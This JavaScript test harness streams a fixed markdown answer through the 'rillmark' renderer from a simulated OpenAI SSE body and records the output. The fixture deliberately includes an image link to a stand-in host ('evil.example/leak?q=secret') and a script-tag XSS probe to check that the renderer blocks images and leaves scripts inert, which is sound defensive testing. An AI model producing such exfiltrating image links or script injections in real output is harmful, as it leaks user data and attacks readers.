// The page side of the consumer tests: initialise rillmark, stream a fixed answer through `renderer.stream()` from
// an OpenAI chat-completions SSE body built in the page (no server beyond a static one), and publish the result on
// `window.__rillmark` for the test to read. Used unchanged by the Vite app and by the plain static page.

/** The answer: reasoning, then markdown touching every styled construct. */
export const REASONING = "The user wants a *demo*. Keep it short.";
export const ANSWER = [
  "# Streaming demo\n\n",
  "Some **bold**, *emphasis*, `inline code`, ~~struck~~ and a [link](https://example.com/docs \"Docs\").\n\n",
  "```rust\nfn main() {\n    println!(\"hi\");\n}\n```\n\n",
  "- [x] done item\n- [ ] open item\n\n",
  "| column | value |\n|---|--:|\n| a | 1 |\n| b | 2 |\n\n",
  "> a quote with a blocked image ![diagram](https://evil.example/leak?q=secret)\n\n",
  "<script>alert(1)</script> stays text.\n",
].join("");

const encoder = new TextEncoder();

function chunk(delta, finish = null) {
  return `data: ${JSON.stringify({ id: "c1", object: "chat.completion.chunk", choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
}

/** Splits `text` into small "tokens" (2–7 characters) deterministically. */
function tokens(text) {
  const out = [];
  for (let i = 0, n = 0; i < text.length; n++) {
    const len = 2 + ((n * 7) % 6);
    out.push(text.slice(i, i + len));
    i += len;
  }
  return out;
}

/** An OpenAI chat-completions SSE body that arrives a few tokens per task, split at odd byte offsets. */
export function sseBody() {
  const events = [
    ...tokens(REASONING).map((t) => chunk({ reasoning_content: t })),
    ...tokens(ANSWER).map((t) => chunk({ content: t })),
    chunk({}, "stop"),
    "data: [DONE]\n\n",
  ];
  const bytes = encoder.encode(events.join(""));
  let at = 0;
  return new ReadableStream({
    type: "bytes",
    async pull(controller) {
      await new Promise((resolve) => setTimeout(resolve, 2));
      const end = Math.min(bytes.length, at + 97);
      controller.enqueue(bytes.slice(at, end));
      at = end;
      if (at === bytes.length) controller.close();
    },
  });
}

/**
 * `init` and `Renderer` come from the package as the consumer imported it; `initArg` is passed to `init` when given
 * (e.g. `{ module_or_path }`). The container gets class `rillmark` for the stylesheet and `rillmark-streaming` while
 * the answer streams.
 */
export async function runDemo({ init, Renderer, initArg, container = document.querySelector("#answer") }) {
  try {
    await (initArg === undefined ? init() : init(initArg));
    const events = {};
    container.classList.add("rillmark", "rillmark-streaming");
    const renderer = new Renderer(container, {
      images: "block",
      links: "new-tab",
      onEvent: (event) => { events[event.type] = (events[event.type] ?? 0) + 1; },
    });
    const body = new Response(sseBody(), { headers: { "content-type": "text/event-stream" } });
    const outcome = await renderer.stream(body);
    container.classList.remove("rillmark-streaming");
    const pre = container.querySelector("pre");
    window.__rillmark = {
      outcome,
      events,
      status: renderer.status,
      html: container.innerHTML,
      expected: { answer: ANSWER, reasoning: REASONING },
      // Whether rillmark.css applied: the code block gets a background and its language label.
      styled: pre ? {
        background: getComputedStyle(pre).backgroundColor,
        label: getComputedStyle(pre.querySelector("code"), "::before").content,
      } : null,
    };
  } catch (error) {
    window.__rillmark = { error: String(error?.stack ?? error) };
  }
}
